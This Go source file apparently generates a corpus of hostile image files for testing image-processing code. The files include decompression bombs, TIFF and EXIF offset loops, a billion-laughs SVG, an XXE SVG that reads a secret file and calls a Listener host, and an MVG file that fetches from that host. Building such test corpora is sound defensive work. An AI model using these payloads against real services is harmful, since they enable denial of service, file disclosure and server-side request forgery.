package attacktest

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"strings"
)

func u32(values ...uint32) (b []byte) {
	for _, v := range values {
		b = binary.BigEndian.AppendUint32(b, v)
	}
	return b
}

func chunk(kind string, content []byte) []byte {
	c := append(append(u32(uint32(len(content))), kind...), content...)
	return append(c, u32(crc32.ChecksumIEEE(c[4:]))...)
}

// pngOf returns a PNG of a size and kind, with zeros for its pixels.
func pngOf(width, height uint32, depth, colour byte, pixels int, extra ...[]byte) []byte {
	out := append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", append(u32(width, height), depth, colour, 0, 0, 0))...)
	out = append(out, bytes.Join(extra, nil)...)
	return append(append(out, chunk("IDAT", deflated(0, pixels))...), chunk("IEND", nil)...)
}

func tiff(tags ...[4]uint32) []byte {
	out := append([]byte("II*\x00\x08\x00\x00\x00"), byte(len(tags)), 0)
	for _, t := range tags {
		out = binary.LittleEndian.AppendUint16(out, uint16(t[0]))
		out = binary.LittleEndian.AppendUint16(out, uint16(t[1]))
		out = append(out, le32(t[2], t[3])...)
	}
	return append(out, 0, 0, 0, 0)
}

func gif(width, height uint16) []byte {
	out := append([]byte("GIF89a"), byte(width), byte(width>>8), byte(height), byte(height>>8), 0x80, 0, 0)
	return append(out, 0, 0, 0, 0xff, 0xff, 0xff)
}

// images claim to be huge, or to have a great deal to say.
func (s *set) images() {
	const secretText = "x\x00\x00"
	for name, data := range map[string][]byte{
		"png-50000-1bit.png": pngOf(50_000, 50_000, 1, 0, 50_000*6251),
		"png-short.png":      pngOf(30_000, 30_000, 8, 6, 10*120_001),
		"png-long.png":       pngOf(2_147_483_647, 1, 1, 0, 0),
		"png-empty.png":      pngOf(0, 0, 1, 0, 0),
		"png-text.png":       pngOf(1, 1, 1, 0, 2, chunk("zTXt", append([]byte(secretText), deflated('A', 200<<20)...))),
		"png-profile.png":    pngOf(1, 1, 1, 0, 2, chunk("iCCP", append([]byte(secretText), deflated('A', 200<<20)...))),
		"gif-huge.gif":       append(gif(65535, 65535), ",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02\x4c\x01\x00;"...),
		"gif-frames.gif":     append(append(gif(500, 500), bytes.Repeat([]byte(",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x4c\x01\x00"), 100_000)...), ';'),
		"tiff-nowhere.tiff":  []byte("II*\x00\xff\xff\xff\xff"),
		"tiff-loop.tiff":     append(tiff([4]uint32{256, 4, 1, 1})[:22], 8, 0, 0, 0),
		"tiff-tile.tiff": tiff([4]uint32{256, 4, 1, 1}, [4]uint32{257, 4, 1, 1}, [4]uint32{258, 3, 1, 8}, [4]uint32{259, 3, 1, 1}, [4]uint32{262, 3, 1, 1}, [4]uint32{277, 3, 1, 1},
			[4]uint32{322, 4, 1, 0x7fffffff}, [4]uint32{323, 4, 1, 0x7fffffff}, [4]uint32{324, 4, 1, 8}, [4]uint32{325, 4, 1, 1}),
		"tiff-huge.tiff": tiff([4]uint32{256, 4, 1, 0xffffffff}, [4]uint32{257, 4, 1, 0xffffffff}, [4]uint32{258, 3, 1, 8}, [4]uint32{259, 3, 1, 1}, [4]uint32{262, 3, 1, 1},
			[4]uint32{273, 4, 1, 8}, [4]uint32{277, 3, 1, 1}, [4]uint32{278, 4, 1, 0xffffffff}, [4]uint32{279, 4, 1, 1}),
		"jpeg-huge.jpg":  []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0\x00\x11\x08\xff\xdc\xff\xdc\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9"),
		"bmp-huge.bmp":   append([]byte("BM\x36\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00"), append(le32(40, 30_000, 30_000), append([]byte{1, 0, 24, 0}, make([]byte, 24)...)...)...),
		"webp-huge.webp": append([]byte("RIFF\x1e\x00\x00\x00WEBPVP8L\x11\x00\x00\x00\x2f"), append(le32(16382|16382<<14), make([]byte, 12)...)...),
		"exif-loop.jpg":  []byte("\xff\xd8\xff\xe1\x00\x22Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x69\x87\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00\x08\x00\x00\x00\xff\xd9"),
		"entities.svg":   []byte(laughs("svg")),
		"outside.svg":    []byte("<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY e SYSTEM \"file://" + s.secret() + "\">]><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://" + Listener + "/svg\"/><text>&e;</text></svg>"),
		"drawing.png":    []byte("push graphic-context\nviewbox 0 0 64 48\nimage over 0,0 0,0 'http://" + Listener + "/mvg'\npop graphic-context\n"),
	} {
		s.write("images/"+name, data)
	}
}

// laughs is XML whose entities expand a billion times.
func laughs(root string) string {
	var b strings.Builder
	b.WriteString("<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY l0 \"lol\">")
	for i := 1; i < 10; i++ {
		b.WriteString("<!ENTITY l" + string(rune('0'+i)) + " \"" + strings.Repeat("&l"+string(rune('0'+i-1))+";", 10) + "\">")
	}
	b.WriteString("]><" + root + "><text>&l9;</text></" + root + ">")
	return b.String()
}
